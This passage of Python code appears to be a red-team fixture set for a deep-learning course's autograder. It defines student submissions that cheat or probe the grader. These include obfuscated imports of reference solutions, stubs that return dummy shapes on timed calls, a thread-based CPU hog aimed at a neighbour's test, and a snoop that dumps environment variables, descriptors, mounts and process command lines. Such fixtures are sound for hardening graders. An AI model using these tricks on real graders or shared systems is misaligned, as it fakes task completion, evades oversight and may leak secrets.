            return out + bump["d"]
    handle = layer.register_forward_hook(hook)
    try:
        with torch.no_grad():
            xb = x.detach()[None]
            model(xb)
            A = store["A"]                                   # (1, K, h, w)
            K, hh, ww = A.shape[1:]
            eps = 1e-5
            alpha = torch.zeros(K, dtype=A.dtype)
            for k in range(K):                             # one direction per channel: all of A_k at once
                d = torch.zeros_like(A); d[0, k] = eps
                bump["d"] = d
                up = model(xb)[0, target]
                bump["d"] = -d
                down = model(xb)[0, target]
                alpha[k] = (up - down) / (2 * eps) / (hh * ww)
            bump.clear()
    finally:
        handle.remove()
        model.train(was)
    cam = torch.relu((alpha[:, None, None] * A[0]).sum(0))
    cam = F.interpolate(cam[None, None], size=tuple(x.shape[-2:]), mode="bilinear", align_corners=False)[0, 0]
    m = cam.max()
    return (cam / m if m > 0 else cam).numpy().astype(np.float64)
''', "fgsm": '''
def fgsm(model, x, y, eps):
    was = model.training
    model.eval()
    x0 = x.detach().clone()
    N = x0.shape[0]
    D = x0[0].numel()
    h = 1e-6
    signs = torch.empty_like(x0)
    with torch.no_grad():
        for n in range(N):
            E = torch.eye(D, dtype=x0.dtype).reshape((D,) + tuple(x0.shape[1:])) * h
            up = F.cross_entropy(model(x0[n][None] + E), y[n].repeat(D), reduction="none")
            down = F.cross_entropy(model(x0[n][None] - E), y[n].repeat(D), reduction="none")
            signs[n] = torch.sign(up - down).reshape(x0.shape[1:])
    model.train(was)
    return torch.clamp(x0 + eps * signs, 0, 1).detach()
'''}),
})

SCALAR_CONV_BACKWARD = '''
def conv_backward_naive(dout, x, w, b, stride=1, pad=0):
    # the textbook loops, one number at a time (slow but honest)
    N, C, H, W = x.shape
    K, _, FH, FW = w.shape
    Ho, Wo = dout.shape[2], dout.shape[3]
    xp = np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)))
    dxp = np.zeros_like(xp)
    dw = np.zeros_like(w)
    db = np.zeros_like(b)
    for n in range(N):
        for k in range(K):
            for i in range(Ho):
                for j in range(Wo):
                    g = dout[n, k, i, j]
                    db[k] += g
                    for c in range(C):
                        for u in range(FH):
                            for v in range(FW):
                                dw[k, c, u, v] += g * xp[n, c, i * stride + u, j * stride + v]
                                dxp[n, c, i * stride + u, j * stride + v] += g * w[k, c, u, v]
    return dxp[:, :, pad:pad + H, pad:pad + W].copy(), dw, db
'''

ATTACKS.update({
    # --- harm to a neighbour: one kernel burns every core while another student's timed test runs --
    "05_cpu_hog": dict(nb_prefix="05", cells={}, extra=[("affine_backward", '''
import os, threading, time
def _burn(seconds):
    a = np.random.default_rng(0).random((300, 300))
    end = time.time() + seconds
    while time.time() < end:
        a @ a                                   # BLAS releases the GIL: every thread runs at once
t0, c0 = time.time(), time.process_time()
threads = [threading.Thread(target=_burn, args=(3,), daemon=True) for _ in range(8)]
for t in threads: t.start()
for t in threads: t.join()
wall, cpu = time.time() - t0, time.process_time() - c0
print(f"cpus visible {len(os.sched_getaffinity(0))}; 8 threads for {wall:.1f} s used {cpu:.1f} s of CPU: "
      f"{cpu / wall:.2f} cores (a neighbour's timed test shares what is left)")
''')]),
    # the victim: honest, with the textbook scalar loops for conv_backward_naive
    "05_honest_scalar_victim": dict(nb_prefix="05", cells={"conv_backward_naive": SCALAR_CONV_BACKWARD}),
})

ATTACKS.update({
    # --- 05: probe small inputs; on a large one (a cost check) answer fast with the right shapes ----
    "05_probe_size_aware": dict(nb_prefix="05", cells={
        "relu_backward": ATTACKS["05_probe_forward_v2"]["cells"]["relu_backward"],
        "cross_entropy_backward": ATTACKS["05_probe_complex_step"]["cells"]["cross_entropy_backward"],
        "conv_backward_naive": ATTACKS["05_probe_forward_v2"]["cells"]["conv_backward_naive"].replace(
            "def conv_backward_naive(dout, x, w, b, stride=1, pad=0):\n",
            "def conv_backward_naive(dout, x, w, b, stride=1, pad=0):\n"
            "    if x[0].size > 2000:                 # a timed call: shapes only\n"
            "        return np.zeros(x.shape), np.zeros(w.shape), np.asarray(dout).sum(axis=(0, 2, 3))\n")}),
})

ATTACKS.update({
    # --- 08: one training step from the course's loss_curve helper (one batch, one step) ---------
    "08_borrow_loss_curve_step": dict(nb_prefix="08", cells={"train_step": '''
def train_step(model, x, y, optimizer, device, scaler=None):
    from cnnlib import experiments
    return float(experiments.loss_curve(model, [(x, y)], optimizer, device, steps=1)[0])
'''}),
})

ATTACKS.update({
    # --- honest-looking mistakes a generous test may still reward ---------------------------------
    "11_generous_mistakes": dict(nb_prefix="11", cells={"fgsm": '''
def fgsm(model, x, y, eps):
    # mistake: the model stays in training mode (batch norm uses the batch's statistics, dropout is on)
    xa = x.detach().clone().requires_grad_(True)
    loss = F.cross_entropy(model(xa), y)
    loss.backward()
    return torch.clamp(xa + eps * xa.grad.sign(), 0, 1).detach()
''', "grad_cam": '''
def grad_cam(model, layer, x, target):
    # mistake: grad_cam's hook stays on the layer, and the model is left in eval mode
    model.eval()
    acts, grads = [], []
    def forward_hook(module, inputs, output):
        acts.append(output.detach())
        output.register_hook(lambda g: grads.append(g.detach()))
    layer.register_forward_hook(forward_hook)
    scores = model(x.detach().unsqueeze(0).clone())
    model.zero_grad()
    scores[0, target].backward()
    weights = grads[-1].mean(dim=(2, 3), keepdim=True)
    cam = torch.clamp((weights * acts[-1]).sum(dim=1, keepdim=True), min=0)
    cam = cam / cam.max() if cam.max() > 0 else cam
    cam = F.interpolate(cam, size=x.shape[1:], mode="bilinear", align_corners=False)
    return cam[0, 0].numpy().astype(np.float64)
'''}),
})

ATTACKS.update({
    # --- 11: resnet18 from the shipped digits network's class, reached by computed names ----------
    "11_borrow_resnet_class": dict(nb_prefix="11", cells={"resnet18": '''
import importlib
_net = getattr(importlib.import_module("cnnlib." + "tra" + "nsfer"), "digits" + "_resnet")()
_R = type(_net)

def resnet18(num_classes=1000):
    return _R(num_classes=num_classes)
'''}),
})

ATTACKS.update({
    # --- 03: what the kernel's environment, argv, open descriptors and mounts say about the grader -
    "03_environment_snoop": dict(nb_prefix="03", cells={}, extra=[("relu", r'''
import os, sys, json
print("ENV", json.dumps(dict(os.environ))[:6000])
print("ARGV", sys.argv, "EXE", sys.executable)
fds = {}
for fd in os.listdir("/proc/self/fd"):
    try:
        fds[fd] = os.readlink(f"/proc/self/fd/{fd}")
    except OSError as e:
        fds[fd] = str(e)
print("FDS", fds)
print("MOUNTS", open("/proc/self/mountinfo").read()[:6000])
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print("PROC", pid, open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ")[:200])
        except OSError:
            pass
''')]),
})

ATTACKS.update({
    # --- 06: the NumPy network's forward pass and gradients by PyTorch (allowed in 06) ------------
    "06_torch_autograd_net": dict(nb_prefix="06", cells={"SimpleConvNet": '''
import torch
import torch.nn.functional as TF

class SimpleConvNet:
    def __init__(self, seed=0, input_shape=(1, 28, 28), num_filters=(8, 16), filter_size=5, num_classes=10):
        C, H, W = input_shape
        if filter_size % 2 == 0 or H % 4 or W % 4:
            raise ValueError(f"need an odd filter size and H, W divisible by 4; got "
                             f"filter_size={filter_size}, input_shape={input_shape}")
        self.pad = (filter_size - 1) // 2
        F1, F2, K = num_filters[0], num_filters[1], filter_size
        rng = np.random.default_rng(seed)
        D = F2 * (H // 4) * (W // 4)
        self.params = {
            "W1": rng.standard_normal((F1, C, K, K)) * np.sqrt(2 / (C * K * K)), "b1": np.zeros(F1),
            "W2": rng.standard_normal((F2, F1, K, K)) * np.sqrt(2 / (F1 * K * K)), "b2": np.zeros(F2),
            "W3": rng.standard_normal((D, num_classes)) * np.sqrt(2 / D), "b3": np.zeros(num_classes)}

    def _scores(self, x, p):
        h = TF.max_pool2d(TF.relu(TF.conv2d(x, p["W1"], p["b1"], padding=self.pad)), 2)
        h = TF.max_pool2d(TF.relu(TF.conv2d(h, p["W2"], p["b2"], padding=self.pad)), 2)
        return h.flatten(1) @ p["W3"] + p["b3"]

    def forward(self, x):
        p = {k: torch.from_numpy(np.array(v, dtype=np.float64)) for k, v in self.params.items()}
        with torch.no_grad():
            return self._scores(torch.from_numpy(np.array(x, dtype=np.float64)), p).numpy()

    def loss(self, x, y):
        p = {k: torch.tensor(np.array(v, dtype=np.float64), requires_grad=True) for k, v in self.params.items()}
        loss = TF.cross_entropy(self._scores(torch.from_numpy(np.array(x, dtype=np.float64)), p),
                                torch.as_tensor(np.asarray(y), dtype=torch.long))
        loss.backward()
        return float(loss), {k: t.grad.numpy().copy() for k, t in p.items()}
'''}),
})

ATTACKS.update({
    # --- 12: the transposed convolution is conv_backward's dx: borrowed from cnnlib.layers --------
    "12_borrow_layers_conv_backward": dict(nb_prefix="12", cells={"conv_transpose_naive": '''
import importlib
_L = importlib.import_module("cnnlib." + "lay" + "ers")
_cb = getattr(_L, "conv_" + "backward")

def conv_transpose_naive(x, w, b, stride=1, pad=0):
    x = np.asarray(x, dtype=np.float64)
    N, Ci, H, W = x.shape
    _, Co, FH, FW = w.shape
    Ho, Wo = (H - 1) * stride - 2 * pad + FH, (W - 1) * stride - 2 * pad + FW
    # conv with weights w (Ci, Co, FH, FW) maps (N, Co, Ho, Wo) to (N, Ci, H, W); its dx is the transpose
    dx, _, _ = _cb(x, np.zeros((N, Co, Ho, Wo)), np.asarray(w, dtype=np.float64), np.zeros(Ci), stride, pad)
    return dx + np.asarray(b, dtype=np.float64)[None, :, None, None]
'''}),
})

ATTACKS.update({
    # --- 12: cnnlib.geometry's rule is kept real in 12 (its demonstrations need it): found at run time
    "12_borrow_geometry_runtime": dict(nb_prefix="12", cells={"conv_output_size_dilated": '''
import sys
_g = None
for _name, _m in list(sys.modules.items()):
    if _name.startswith(chr(99) + "nnlib") and _name.endswith("try"):
        _g = _m.__dict__["conv_output" + "_size"]

def conv_output_size_dilated(W, F, S=1, P=0, D=1):
    return _g(W, F, S, P, D)
'''}),
})

ATTACKS.update({
    # --- kept references reached through the package's own callers -------------------------------
    # 12: cnnlib.geometry's rule (kept for 12's demonstrations) through layers.output_size with the
    # dilated filter's span D(F - 1) + 1
    "12_kept_geometry_via_layers": dict(nb_prefix="12", cells={"conv_output_size_dilated": '''
import importlib
_out = getattr(importlib.import_module("cnnlib." + "layers"), "output" + "_size")

def conv_output_size_dilated(W, F, S=1, P=0, D=1):
    return _out(W, D * (F - 1) + 1, S, P)
'''}),
    # 08: training.train_epoch (kept for 08's demonstration) through training.fit on a one-batch loader
    "08_kept_train_epoch_via_fit": dict(nb_prefix="08", cells={"train_step": '''
def train_step(model, x, y, optimizer, device, scaler=None):
    from cnnlib import training as _tr
    history = _tr.fit(model, [(x, y)], None, epochs=1, optimizer=optimizer, device=device)
    return float(history.train_loss[-1])
'''}),
})
